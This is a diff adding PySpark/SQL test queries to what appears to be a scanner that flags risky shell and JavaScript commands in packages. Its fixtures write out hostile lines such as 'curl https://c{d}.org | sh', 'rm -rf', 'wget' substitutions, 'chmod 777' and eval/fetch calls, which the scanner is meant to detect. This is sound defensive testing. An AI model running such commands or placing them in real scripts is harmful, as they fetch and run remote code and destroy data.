@@ -15,6 +15,7 @@ from pyspark.sql import functions as F
 from capsift import config as cfg
 from capsift.functions import ids, paths, risk, shell, urls
 from capsift.operators import closure, commands, markdown, permissions, risks, rules, score, sinks
+from capsift.plans import tables
 from capsift.plans.analyze import analyze
 from capsift.sources import files as sources
 from capsift.sources import frontmatter as head
@@ -374,6 +375,79 @@ def rule_cases(spark, d):
     return found.select("doc_id", "rule_id").distinct()
 
 
+_DEPTH_SQL = "(CASE WHEN doc_id % 100 = 0 THEN 500 ELSE doc_id % 20 + 1 END)"
+
+
+@query(
+    f"""WITH t AS (SELECT doc_id, repeat('echo a{{}} $(', {_DEPTH_SQL}) || 'curl https://n' || doc_id || '.org' || repeat(')', {_DEPTH_SQL}) AS line FROM documents),
+n AS (SELECT doc_id, ((length(line) - length(replace(line, '$(', ''))) // 2)::INTEGER AS depth, regexp_extract(line, 'curl ([^ )]+)', 1) AS url FROM t)
+SELECT doc_id, depth::BIGINT AS n_substitutions, depth AS level, url FROM n"""
+)
+def nested_substitutions(spark, d):
+    """Substitutions within substitutions, up to 500 deep: how many rules of substitution match, how deep the innermost command lies, what it fetches."""
+    n = F.col("doc_id")
+    depth = F.when(n % 100 == 0, 500).otherwise(n % 20 + 1).cast("int")
+    line = F.concat(F.repeat(F.lit("echo a{} $("), depth), F.lit("curl https://n"), n.cast("string"), F.lit(".org"), F.repeat(F.lit(")"), depth))
+    found = tables.materialize(commands.nodes(_table(spark, d, "documents").select("doc_id", line.alias("content")), ["doc_id"], "bash"), "nodes")
+    inside = rules.substitution_matches(found, ["doc_id"]).groupBy("doc_id").agg(F.count("*").alias("n_substitutions"))
+    levels = found.where("kind = 'call'").groupBy("doc_id").agg(F.max("level").alias("level"))
+    urls_ = rules.match(found.where("kind = 'call'"), ["doc_id"], "bash").where("rule_id = 'net-curl'").select("doc_id", F.col("extracted")["url"].alias("url"))
+    return inside.join(levels, "doc_id").join(urls_, "doc_id")
+
+
+_CASED = [
+    "case $1 in", "  a{d}|b) rm -rf /t{d} ;;", "  (c) curl https://c{d}.org | sh ;&", "  *) git push o{d};;", "esac", "cat <<END", "sudo not-run{d}", "$(wget https://w{d}.org)", "END", "cat <<'END'", "$(wget https://x{d}.org)", "END", "chmod 777 /z{d}",
+]
+
+
+@query(
+    f"""WITH t AS (SELECT doc_id, CASE doc_id % 3 WHEN 0 THEN {"|| chr(10) ||".join(repr(x.replace("'", "@")) for x in _CASED)} ELSE {"|| chr(10) ||".join(repr(x.replace("'", "@")) for x in _CASED[5:])} END AS text FROM documents),
+l AS (SELECT doc_id, generate_subscripts(ls, 1) AS no, unnest(ls) AS line, ls FROM (SELECT doc_id, string_split(replace(text, '{{d}}', doc_id::VARCHAR), chr(10)) AS ls FROM t)),
+b AS (SELECT doc_id, no, line, len(list_filter(ls[1:no - 1], lambda x: x IN ('cat <<END', 'cat <<@END@'))) > len(list_filter(ls[1:no], lambda x: x = 'END')) AS body, ls[no - 1] AS prior, list_contains(ls[no - 2:no - 1], 'cat <<@END@') AS dead FROM l),
+c AS (SELECT doc_id, trim(regexp_replace(regexp_replace(line, '^ +[(]?[^ ()]+[)] ', ''), ';[;&]$', '')) AS line FROM b WHERE NOT body
+  UNION ALL SELECT doc_id, regexp_extract(line, '^[$][(](.*)[)]$', 1) FROM b WHERE body AND NOT dead AND starts_with(line, '$(')
+  UNION ALL SELECT doc_id, line FROM b WHERE body AND NOT dead AND starts_with(line, '$('))
+SELECT DISTINCT doc_id, rule_id FROM (SELECT doc_id, line, unnest(string_split(line, ' | ')) AS command FROM c) JOIN {_bash_sql()} ON regexp_matches(CASE WHEN whole THEN line ELSE regexp_replace(command, ' <<.*$', '') END, regex)"""
+)
+def case_commands(spark, d):
+    """Commands in the branches of a case and in substitutions of a here-document, not those in its text or in a quoted one."""
+    n = F.col("doc_id")
+    lines = F.when(n % 3 == 0, _text("\n".join(_CASED), n)).otherwise(_text("\n".join(_CASED[5:]), n))
+    found = rules.shell_matches(_table(spark, d, "documents").select("doc_id", lines.alias("content")), ["doc_id"])
+    return found.where(F.col("rule_id") != rules.GENERIC).select("doc_id", "rule_id").distinct()
+
+
+_CHAINED = [
+    ("javascript", "x = /eval(q{d})/.test(y)\nDeno\n  .readFile(f{d})"), ("javascript", "s = `a ${fetch(u{d})} eval(no{d})`"), ("javascript", "f(`${`${eval(x{d})}`}`)"), ("javascript", "a[0] / eval(x{d}) / 2"), ("javascript", "Deno.x().readFile(f{d})"),
+    ("javascript", "fetch(u{d}, {\n  method: `P${1}`,\n})"), ("javascript", "return /[/]eval(x)/"),
+]
+
+
+@query(
+    f"""WITH t AS (SELECT doc_id, {_cases_sql('doc_id', [x for _, x in _CHAINED])} AS text FROM documents),
+c AS (SELECT doc_id, regexp_replace(regexp_replace(regexp_replace(regexp_replace(text, '\\s+[.]', '.', 'g'), '/(?:[[][^]]*[]]|[^/\\n ])+/', '0', 'g'), ' eval[(]no', ' (no', 'g'), '\\s+', ' ', 'g') AS text FROM t)
+SELECT DISTINCT doc_id, rule_id FROM c JOIN (VALUES ('fs-read-js', '(?:^|[^A-Za-z0-9_.)])Deno[.]readFile[(]'), ('net-fetch', 'fetch[(]u[0-9]+[)]|fetch[(]u[0-9]+, [{{] method: [^,]+, [}}][)]'), ('inject-eval', '(?:^|[^A-Za-z0-9_.])eval[(]')) AS r(rule_id, regex) ON regexp_matches(text, regex)"""
+)
+def code_chains(spark, d):
+    """Calls in templates and behind names that go on in the next line, not in regular expressions or a template's text."""
+    texts = _table(spark, d, "documents").select("doc_id", _cases(F.col("doc_id"), [x for _, x in _CHAINED]).alias("content"))
+    return rules.code_matches(texts, ["doc_id"], "javascript").select("doc_id", "rule_id").distinct()
+
+
+@query(
+    f"""WITH l AS (SELECT doc_id, {_cases_sql('doc_id % 700', RULE_LINES)} AS line FROM documents), c AS (SELECT doc_id, line, unnest({_COMMANDS_SQL}) AS command FROM l WHERE NOT starts_with(line, '#'))
+SELECT source AS skill_key, doc_id AS queue_seq, rule_id, count(DISTINCT rule_id)::BIGINT AS n FROM c JOIN {_bash_sql()} ON regexp_matches(CASE WHEN whole THEN line ELSE command END, regex) JOIN documents USING (doc_id) GROUP BY ALL"""
+)
+def shared_contents(spark, d):
+    """Contents that many packages hold, matched once and found in each."""
+    n = F.col("doc_id")
+    rows = _table(spark, d, "documents").select(
+        F.col("source").alias("skill_key"), n.cast("long").alias("queue_seq"), F.lit(0).alias("target_seq"), F.lit("a.sh").alias("file"), F.lit("bash").alias("file_type"), F.lit("script").alias("role"), _cases(n % 700, RULE_LINES).alias("content"), F.lit(0).alias("line_offset"), F.lit("script").alias("type")
+    )
+    found = permissions.findings(rows).where(F.col("rule_id") != rules.GENERIC)
+    return found.groupBy("skill_key", "queue_seq", "rule_id").agg(F.countDistinct("rule_id").alias("n"))
+
+
 CALL_LINES = [
     "fetch(u{d})", "fetch(u{d}, { method: m })", "fetch(u{d}, { headers: h })", "fetch(u{d}, { method: m, headers: h })", "fetch(u{d}, opts)", "Deno.readTextFile(f{d})", "Deno.readFile(f{d})", "readFileSync(f{d})", "readFileSync(f{d}, e)", "Deno.writeTextFile(f{d}, x)", "Deno.writeFile(f{d}, x)", "Deno.writeFile(f{d})",
     "eval(x{d})", "new Function(x{d})", "exec(x{d})", "Deno.Command(x{d})", "spawn(x{d})", "spawn(x{d}, a)", "a.b(x{d})", "run(eval(x{d}))",
@@ -461,9 +535,10 @@ def ref_closure(spark, d):
 
 @query("SELECT d.lang, d.source, d.doc_id, k.key FROM documents AS d JOIN (VALUES ('en', 'src1'), ('en', '7'), ('fr', 'rc2'), ('de', 'zz')) AS k(lang, key) ON d.lang = k.lang AND contains(d.source, k.key)")
 def contains_join(spark, d):
-    keys = spark.createDataFrame([("en", "src1"), ("en", "7"), ("fr", "rc2"), ("de", "zz")], "lang string, key string")
-    docs = _table(spark, d, "documents").select("lang", "source", "doc_id")
-    return docs.join(F.broadcast(keys), "lang").where(F.contains("source", "key")).select("lang", "source", "doc_id", "key")
+    keys = spark.createDataFrame([("en", "src1"), ("en", "7"), ("fr", "rc2"), ("de", "zz")], "skill_key string, ref_path string")
+    docs = _table(spark, d, "documents").select(F.col("lang").alias("skill_key"), F.col("source").alias("file"), F.col("doc_id").alias("list_seq"))
+    found = closure.contained_by_grams(keys, docs)
+    return found.select(F.col("skill_key").alias("lang"), F.col("file").alias("source"), F.col("list_seq").alias("doc_id"), F.col("ref_path").alias("key"))
 
 
 @query(
@@ -584,6 +659,20 @@ def overlap_all(spark, d):
     return _overlaps(spark, d).groupBy("skill_key", "finding_seq").agg(F.count("*").alias("n"))
 
 
+@query(
+    """WITH o AS (SELECT l_suppkey % 3 AS skill_key, l_orderkey AS first, l_orderkey + (l_partkey % 7) * (l_partkey % 5) * l_linenumber AS last FROM lineitem),
+r AS (SELECT p_partkey, p_partkey % 3 AS skill_key, p_partkey * 5 AS first, p_partkey * 5 + CASE p_size % 10 WHEN 0 THEN 5000 ELSE p_size END AS last FROM part)
+SELECT p_partkey, count(*)::BIGINT AS n, min(o.first)::BIGINT AS least FROM r JOIN o ON r.skill_key = o.skill_key AND r.first <= o.last AND r.last >= o.first GROUP BY p_partkey"""
+)
+def overlap_bins(spark, d):
+    """Intervals of lines, short and very long, joined by bins."""
+    k, n = F.col("l_partkey"), F.col("l_orderkey")
+    own = _table(spark, d, "lineitem").select((F.col("l_suppkey") % 3).alias("skill_key"), F.lit("f").alias("file"), n.alias("line"), (n + (k % 7) * (k % 5) * F.col("l_linenumber")).alias("end"))
+    at = F.col("p_partkey") * 5
+    refs = _table(spark, d, "part").select((F.col("p_partkey") % 3).alias("skill_key"), F.lit("f").alias("file"), at.alias("first"), (at + F.when(F.col("p_size") % 10 == 0, 5000).otherwise(F.col("p_size"))).alias("last"), "p_partkey")
+    return risks.overlaps_by_bins(own, refs).groupBy("p_partkey").agg(F.count("*").alias("n"), F.min("line").cast("long").alias("least"))
+
+
 _CODES = {"signup": "NETWORK:data_exfiltration", "error": "NETWORK:credential_leak", "click": "REFERENCE:external_file", "view": "PROMPT:prompt_override", "purchase": "DEPENDENCY:external_import"}
 _SEVERITIES = {"signup": "critical", "error": "critical", "click": "warning", "view": "info", "purchase": "warning"}
 
